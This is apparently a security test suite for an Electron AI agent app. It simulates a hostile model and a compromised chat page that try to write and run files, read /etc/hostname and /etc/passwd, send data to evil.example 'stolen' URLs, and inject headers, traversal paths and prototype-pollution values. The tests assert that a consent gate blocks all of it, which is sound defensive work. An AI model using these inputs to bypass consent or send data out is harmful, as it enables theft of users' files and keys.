import { randomUUID } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, onTestFinished, test, vi } from 'vitest';
import { WATCHER_SCRIPT } from '../../src-main/processes/watcher-script.ts';
import { routes } from '../../src-preload/contract/index.ts';
import { AppRig } from '../fixtures/electron-app.ts';
import { programForm } from '../fixtures/mcp/program-form.ts';
import { startMessagesApi } from '../fixtures/messages-api/server.ts';
import { PROVIDER_FORM } from '../fixtures/provider-form.ts';
import { labels } from '../fixtures/window-labels.ts';
import { User } from '../fixtures/window-user.ts';

const SOON = { timeout: 20_000, interval: 100 };
const NO_ID = '00000000-0000-4000-8000-000000000000';

interface Envelope {
  readonly ok: boolean;
  readonly data?: unknown;
  readonly error?: { readonly code: string };
}

/** A model that does what the page wants: it writes, runs and reads outside, over and over. */
function hostileModel(marker: string) {
  const call = (name: string, input: Record<string, unknown>) => ({ type: 'tool_use' as const, name, input });
  return {
    turns: [
      {
        blocks: [
          call('write_file', { path: 'written.txt', content: 'by the page' }),
          call('append_file', { path: 'notes.md', content: 'by the page' }),
          call('bash', { command: `touch ${marker}` }),
          call('run_command', { command: 'touch', arguments: marker }),
          call('read_file', { path: '/etc/hostname' }),
        ],
      },
    ],
    afterLast: 'repeat' as const,
  };
}

/** The first words of the process that ends what Steward leaves behind (`processes/watcher-script.ts`). */
const [WATCHER_TRAP = ''] = WATCHER_SCRIPT.trim().split('\n');
const SERVER_MARK = 'server-was-started';

/** A server that would leave a mark as soon as it is started. */
function serverForm(folder: string) {
  const script = `require('fs').writeFileSync(${JSON.stringify(join(folder, SERVER_MARK))}, '')`;
  return programForm({ name: 'by-the-page', command: process.execPath, args: ['-e', script] });
}

/** A provider whose address would receive what is sent to it. */
function providerForm(name: string, baseUrl: string) {
  return { ...PROVIDER_FORM, name, baseUrl };
}

/** Everything the page sends where the schema would want something sensible, and a few things that are sensible. */
function inputsFor(route: string, outside: string, workspace: string): unknown[] {
  const sensible: Readonly<Record<string, unknown[]>> = {
    'settings.addFolder': [{ path: '/' }, { path: outside }, { path: '/etc' }, {}],
    'settings.workFreely': [
      { folder: workspace, lasts: 'always' },
      { folder: outside, lasts: 'week' },
    ],
    'settings.setToolEnabled': [
      { name: 'bash', isEnabled: true },
      { name: 'run_command', isEnabled: true },
    ],
    'settings.chooseModel': [{ specification: 'guide' }, { specification: 'anthropic:claude-sonnet-5-5' }],
    'settings.setKey': [{ name: 'brave-api-key', value: 'BSA-from-the-page' }],
    'settings.testKey': [
      { name: 'openai-api-key', value: 'x\r\ny: z' },
      { name: 'anthropic-api-key', value: 'what was read here' },
    ],
    'settings.revokeRule': [{ id: NO_ID }],
    'providers.add': [
      { form: providerForm('by-the-page', 'https://evil.example/v1'), key: null },
      { form: providerForm('openai', ''), key: 'sk-of-the-page' },
    ],
    'providers.change': [{ name: 'gateway', form: providerForm('gateway', 'https://evil.example/v1'), key: null }],
    'providers.confirm': [{ name: 'gateway' }],
    'providers.test': [
      { name: null, form: providerForm('x', 'https://evil.example/v1'), key: 'what was read here' },
      { name: 'gateway', form: providerForm('gateway', 'https://evil.example/v1'), key: null },
      { name: null, form: providerForm('x', ''), key: 'what was read here' },
    ],
    'providers.remove': [{ name: 'gateway' }],
    'providers.removeKey': [{ name: 'gateway' }],
    'providers.refreshModels': [{ name: 'gateway' }, { name: 'openai' }],
    'providers.openPage': [{ page: 'groq' }, { page: 'https://evil.example/' }],
    'servers.add': [{ form: serverForm(outside) }],
    'servers.change': [{ form: serverForm(outside) }],
    'servers.test': [
      { form: serverForm(outside), isSaved: false },
      { form: serverForm(outside), isSaved: true },
    ],
    'servers.setEnabled': [{ name: 'fixture', isEnabled: true }],
    'servers.setClass': [{ name: 'fixture', tool: 'echo', class: 'read' }],
    'servers.setText': [{ name: 'fixture', text: 'own' }],
    'servers.restart': [{ name: 'fixture' }],
    'servers.confirm': [{ name: 'fixture' }],
    'servers.review': [{ name: 'fixture' }],
    'servers.remove': [{ name: 'fixture' }],
    'serverSignIn.signIn': [{ server: 'remote' }],
    'serverSignIn.signOut': [{ server: 'remote' }],
    'accounts.connect': [{ name: 'gmail' }],
    'accounts.disconnect': [{ name: 'gmail' }],
    'accounts.test': [{ name: 'gmail' }],
    'desktopTools.answer': [{ id: NO_ID, answer: 'Yes, do it' }],
    'credentials.testKey': [{ name: 'anthropic-api-key' }],
    'credentials.removeServerSecret': [{ server: 'fixture', name: 'TOKEN' }],
    'serverDiagnostics.examine': [{ server: 'fixture' }, { server: 'remote' }],
    'content.complete': [
      { server: 'fixture', of: { kind: 'prompt', name: 'p' }, argument: { name: 'a', value: 'stolen' }, given: {} },
    ],
    'content.attached': [{ id: null, resources: [{ server: 'fixture', uri: 'file:///etc/passwd' }] }],
    'content.readAgain': [{ server: 'fixture', uri: 'file:///etc/passwd' }],
    'content.fill': [{ server: 'fixture', uriTemplate: 'file:///{path}', values: { path: 'stolen' } }],
    'content.prompt': [{ id: null, server: 'fixture', name: 'p', values: { a: 'stolen' } }],
    'servers.checkTemplate': [{ id: 'whatsapp', folder: outside }],
    'servers.checkProgram': [{ command: '//evil.example/share/x', path: outside }],
    'conversations.openLink': [
      { id: null, url: 'https://evil.example/?stolen=1' },
      { id: null, url: 'file:///etc/passwd' },
      { id: null, url: 'mailto:evil@example.com?body=stolen' },
    ],
    'updates.setOn': [{ isOn: true }],
    'updates.openPage': [{ page: 'downloads' }, { page: 'https://evil.example/' }],
    'app.openKeyPage': [{ name: 'openai-api-key' }],
    'app.openVendorPage': [{ page: 'anthropic-billing' }, { page: 'https://evil.example/' }],
    'conversations.send': [
      { id: null, text: 'go' },
      { id: null, text: '/bash {"command": "touch /tmp/never"}' },
      { id: null, text: '/write_file {"path": "written.txt", "content": "x"}' },
      { id: null, text: '/tools enable bash' },
      { id: null, text: '/rules revoke x' },
      { id: null, text: 'x', attachments: [{ kind: 'docx', name: '../../x', data: 'UEsDBA==' }] },
    ],
    'conversations.undo': [
      { id: NO_ID, turnId: NO_ID, callId: null },
      { id: NO_ID, turnId: outside, callId: outside },
    ],
    'conversations.export': [{ id: NO_ID, format: 'markdown' }],
    'conversations.saveFile': [{ id: NO_ID, callId: 'c', part: 0 }],
    'consent.answer': [
      { id: NO_ID, answer: 'once' },
      { id: NO_ID, answer: 'always', offer: 0 },
    ],
  };
  const garbage = [
    undefined,
    null,
    0,
    '',
    'x'.repeat(100_000),
    [],
    [[]],
    {},
    { id: NO_ID },
    { id: '../../etc/passwd' },
  ];
  return [...(sensible[route] ?? []), ...garbage, { path: outside, value: 1, name: '__proto__', id: { $ne: null } }];
}

test('arbitrary code in the chat can widen, write, run and send nothing without an answer in the other surface', async (context) => {
  const marker = join(tmpdir(), `steward-hostile-page-ran-${randomUUID()}`);
  const api = await startMessagesApi(hostileModel(marker));
  onTestFinished(() => api.close());
  const rig = new AppRig(context, {
    api: api.url,
    files: { 'notes.md': 'mine\n' },
  });
  const outside = join(rig.home, 'outside');
  rig.write(join(outside, 'secret.txt'), 'secret');
  const { command, args } = serverForm(outside);
  // Servers that nobody confirmed: one on this computer, one that would want a sign-in.
  const mcpServers = { fixture: { command, args }, remote: { url: `${api.url}/mcp` } };
  const providers = { gateway: { type: 'openai', model: 'any', baseUrl: `${api.url}/v1` } };
  const config = { tools: { disabled: ['run_command'] }, mcpServers, providers };
  rig.write(join(rig.profile, 'config.json'), JSON.stringify(config));
  const running = await rig.launch();
  const { app, chat } = running;
  // What would show up outside the window is recorded instead.
  await app.evaluate(({ shell, dialog }) => {
    const outward: string[] = [];
    Object.assign(globalThis, { outward });
    for (const [object, names] of [
      [shell, ['openExternal', 'openPath', 'showItemInFolder']],
      [dialog, ['showOpenDialog', 'showSaveDialog', 'showMessageBox']],
    ] as const)
      for (const name of names)
        Object.assign(object, {
          [name]: (...args: unknown[]) => {
            outward.push(`${name} ${JSON.stringify(args.at(-1))}`);
            return new Promise(() => undefined);
          },
        });
  });
  const request = (route: string, input: unknown): Promise<Envelope> =>
    chat.evaluate(
      ([name, value]) =>
        (globalThis as unknown as { steward: { request(r: unknown, i: unknown): Promise<Envelope> } }).steward.request(
          name,
          value,
        ),
      [route, input] as const,
    );
  // The user asks once, with real keys: the calls of this model wait for them.
  await new User(running).ask('go');
  await vi.waitFor(() => expect(api.requests.length).toBeGreaterThan(0), SOON);
  const asked = api.requests.length;
  const before = (await request('settings.get', {})).data as Record<string, unknown>;

  const attacks = Object.values(routes).flatMap((groups) =>
    Object.entries(groups).flatMap(([group, members]) =>
      Object.keys(members).flatMap((name) => {
        const route = `${group}.${name}`;
        return inputsFor(route, outside, rig.workspace).map((input) => [route, input] as const);
      }),
    ),
  );
  expect(attacks.length).toBeGreaterThan(300);
  // All at once, from the page itself; what asks a user never answers, so nothing is awaited for long.
  await chat.evaluate(async (list) => {
    const { steward } = globalThis as unknown as { steward: { request(r: unknown, i: unknown): Promise<unknown> } };
    const seen: Record<string, unknown[]> = {};
    Object.assign(globalThis, { seen });
    for (const [route, input] of list) {
      const answer = steward.request(route, input).catch((error: unknown) => ({ thrown: String(error) }));
      void answer.then((envelope) => {
        seen[route] = [...(seen[route] ?? []), envelope];
      });
      await Promise.race([answer, new Promise((resolve) => setTimeout(resolve, 150))]);
    }
  }, attacks);

  // The calls wait, and not one message of the page went out.
  expect(api.requests).toHaveLength(asked);
  const consent = await running.consent();
  await consent.getByRole('alertdialog').waitFor();

  const seen = (await chat.evaluate(() => (globalThis as unknown as { seen: unknown }).seen)) as Record<
    string,
    readonly Envelope[]
  >;
  for (const route of ['consent.state', 'consent.answer'])
    expect(new Set((seen[route] ?? []).map(({ error }) => error?.code)), route).toEqual(new Set(['wrong_surface']));
  for (const route of [
    'conversations.send',
    'conversations.retry',
    'conversations.tryCallAgain',
    'conversations.fileMenu',
    'conversations.openLink',
    'conversations.restore',
    'conversations.erase',
    'conversations.emptyTrash',
    'app.openKeyPage',
    'app.openVendorPage',
    'settings.showProfileFolder',
    'settings.setUndoLimits',
    'settings.clearKeptForUndo',
    'settings.testKey',
    'settings.chooseWorkspace',
    'settings.workFreely',
    'providers.add',
    'providers.change',
    'providers.confirm',
    'providers.test',
    'providers.remove',
    'providers.removeKey',
    'providers.openPage',
    'servers.add',
    'servers.change',
    'servers.test',
    'servers.setEnabled',
    'servers.restart',
    'servers.confirm',
    'servers.setClass',
    'servers.remove',
    'servers.undoRemoval',
    'servers.findOthers',
    'servers.chooseFolder',
    'servers.review',
    'serverSignIn.signIn',
    'serverSignIn.signOut',
    'content.readAgain',
    'accounts.connect',
    'accounts.disconnect',
    'accounts.disconnectAll',
    'accounts.test',
    'desktopTools.answer',
    'credentials.testKey',
    'credentials.removeServerSecret',
    'content.fill',
    'content.prompt',
    'updates.setOn',
    'updates.check',
    'updates.dismiss',
    'updates.download',
    'updates.restart',
    'updates.openPage',
  ])
    expect(
      (seen[route] ?? []).filter(({ ok }) => ok),
      route,
    ).toEqual([]);
  expect((seen['content.complete'] ?? []).flatMap(({ data }) => data ?? [])).toEqual([]);
  expect(JSON.stringify(seen)).not.toContain('sk-ant-api03-fixture');

  const after = (await request('settings.get', {})).data as Record<string, unknown>;
  for (const power of ['workspace', 'folders', 'tools', 'unconfirmed'])
    expect(after[power], power).toEqual(before[power]);
  expect((await request('settings.rules', {})).data).toEqual([]);
  const written = JSON.parse(readFileSync(join(rig.profile, 'config.json'), 'utf8'));
  expect({ ...written, model: undefined }).toEqual({ ...config, model: undefined });
  expect(existsSync(marker)).toBe(false);
  expect(existsSync(join(outside, SERVER_MARK))).toBe(false);
  expect(existsSync(join(rig.workspace, 'written.txt'))).toBe(false);
  expect(readFileSync(join(rig.workspace, 'notes.md'), 'utf8')).toBe('mine\n');
  expect(await app.evaluate(() => (globalThis as unknown as { outward: string[] }).outward)).toEqual([]);
  // Looking for a program's PATH asks the login shell, which Steward's own watcher then watches.
  // Anywhere else in a line, the name could be the beginning of an argument that Chromium lost the end of.
  const foreign = running
    .processes()
    .filter(
      ({ command }) =>
        /^-?(?:\S*\/)?(?:touch|(?:ba|da)?sh|xdg-open)(?: |$)/.test(command) && !command.includes(WATCHER_TRAP),
    );
  expect(foreign).toEqual([]);
  for (const { path } of api.requests) expect(path).toMatch(/^\/v1\/messages/);

  // The same, refused by the user: still nothing.
  await consent
    .getByRole('button', { name: /^(?:Deny|Don’t|Keep|Not now)/ })
    .first()
    .waitFor();
  await running.close();
  expect(existsSync(marker)).toBe(false);
  expect(existsSync(join(rig.workspace, 'written.txt'))).toBe(false);
});

test('the chat can neither reach the consent surface nor move or resize its view', async (context) => {
  const rig = new AppRig(context, { files: { 'notes.md': 'mine\n' } });
  const running = await rig.launch();
  const { app, chat } = running;
  await new User(running).ask('run: touch never');
  const consent = await running.consent();
  await consent.getByRole('alertdialog').waitFor();
  const places = () =>
    app.evaluate(({ BrowserWindow }) => {
      const [window] = BrowserWindow.getAllWindows();
      return { window: window?.getBounds(), view: window?.contentView.children.at(-1)?.getBounds() };
    });
  const before = await places();

  const reached = await chat.evaluate(async () => {
    const page = globalThis as unknown as {
      moveTo(x: number, y: number): void;
      resizeTo(x: number, y: number): void;
      open(url: string, name?: string): unknown;
      opener: unknown;
      parent: unknown;
      frames: { length: number };
      document: { body: { append(node: unknown): void }; createElement(name: string): Record<string, unknown> };
      steward: { request(r: string, i: unknown): Promise<{ error?: { code: string } }> };
    };
    page.moveTo(0, 0);
    page.resizeTo(100, 100);
    const frame = page.document.createElement('iframe');
    page.document.body.append(frame);
    const inFrame = (frame.contentWindow as { steward?: unknown } | null)?.steward;
    const isFrozen = (() => {
      try {
        Object.assign(page.steward, { request: () => Promise.resolve('mine') });
      } catch {
        return true;
      }
      return false;
    })();
    return {
      opened: [page.open('steward://consent/consent.html'), page.open('', '_blank')],
      hasOpener: page.opener !== null,
      inFrame: inFrame === undefined,
      isFrozen,
      answer: (await page.steward.request('consent.answer', { id: 'x', answer: 'once' })).error?.code,
    };
  });
  expect(reached).toEqual({
    opened: [null, null],
    hasOpener: false,
    inFrame: true,
    isFrozen: true,
    answer: 'wrong_surface',
  });
  expect(await places()).toEqual(before);

  // It may say where its composer is; whatever it says, the question stays where main has it, within the heights of a
  // composer.
  const said = await chat.evaluate(async () => {
    const { steward } = globalThis as unknown as {
      steward: { request(r: string, i: unknown): Promise<{ ok: boolean; data: readonly { id: string }[] }> };
    };
    const [conversation] = (await steward.request('conversations.list', {})).data;
    const composer = (height: number) => steward.request('app.composer', { conversationId: conversation?.id, height });
    return [(await composer(9_999)).ok, (await composer(-500)).ok, (await composer(20_000)).ok];
  });
  expect(said).toEqual([true, false, false]);
  const after = await places();
  expect(after.view).toMatchObject({ x: before.view?.x, width: before.view?.width });
  expect((after.view?.y ?? 0) + (after.view?.height ?? 0)).toBe(800 - 240);
  expect(after.view?.height).toBe(before.view?.height);
  expect(existsSync(join(rig.workspace, 'never'))).toBe(false);
});

test("the chat's code cannot open the system's print dialogue, not even through a frame", async (context) => {
  const { chat } = await new AppRig(context).launch();
  const printed = await chat.evaluate(() => {
    interface Printable {
      print(): void;
      addEventListener(type: string, listener: () => void): void;
    }
    const page = globalThis as unknown as Printable & {
      document: { body: { append(node: unknown): void }; createElement(name: string): Record<string, unknown> };
    };
    const frame = page.document.createElement('iframe');
    page.document.body.append(frame);
    let prints = 0;
    for (const each of [page, frame.contentWindow as Printable]) {
      each.addEventListener('beforeprint', () => {
        prints += 1;
      });
      each.print();
    }
    return prints;
  });
  expect(printed).toBe(0);
});

test('a click opens one address from the conversation; any other address is shown in full first', async (context) => {
  const running = await new AppRig(context).launch();
  const { app, chat } = running;
  const user = new User(running);
  await app.evaluate(({ shell }) => {
    const opened: string[] = [];
    Object.assign(globalThis, { opened });
    Object.assign(shell, { openExternal: async (url: string) => void opened.push(url) });
  });
  const opened = () => app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened);
  await user.ask('I mean https://example.com/first, not the other one');
  await user.waits();
  // The page is taken over: whatever the user clicks, it asks for these, one after the other.
  await chat.evaluate(async () => {
    const page = globalThis as unknown as {
      steward: { request(r: string, i: unknown): Promise<{ data: readonly { id: string }[] }> };
      document: { body: { append(node: unknown): void }; createElement(name: string): Record<string, unknown> };
    };
    const [conversation] = (await page.steward.request('conversations.list', {})).data;
    const open = (url: string) => page.steward.request('conversations.openLink', { id: conversation?.id, url });
    const button = (name: string, urls: readonly string[], left: number) =>
      Object.assign(page.document.createElement('button'), {
        textContent: name,
        style: `position: fixed; top: 0; left: ${left}px; z-index: 9999`,
        onclick: async () => {
          for (const url of urls) await open(url);
        },
      });
    page.document.body.append(button('Open both', ['https://example.com/first', 'https://example.com/second'], 0));
    page.document.body.append(button('Send out', ['https://example.com/first?stolen=private+notes'], 200));
    void open('https://example.com/first');
  });
  const both = chat.getByRole('button', { name: 'Open both' });
  await both.click();
  await vi.waitFor(async () => expect(await opened()).toEqual(['https://example.com/first']), SOON);
  await both.press('Enter');
  await vi.waitFor(async () => expect(await opened()).toHaveLength(2), SOON);

  await chat.getByRole('button', { name: 'Send out' }).click();
  const question = await user.question();
  expect(await question.innerText()).toContain('https://example.com/first?stolen=private+notes');
  await running.shoot('consent-link');
  await user.answers(labels.consent.doNotOpen);
  await question.waitFor({ state: 'detached' });
  expect(new Set(await opened())).toEqual(new Set(['https://example.com/first']));

  // The control: only that question kept it from leaving.
  await chat.getByRole('button', { name: 'Send out' }).click();
  await user.answers(labels.consent.open);
  await vi.waitFor(
    async () => expect(await opened()).toContain('https://example.com/first?stolen=private+notes'),
    SOON,
  );
});
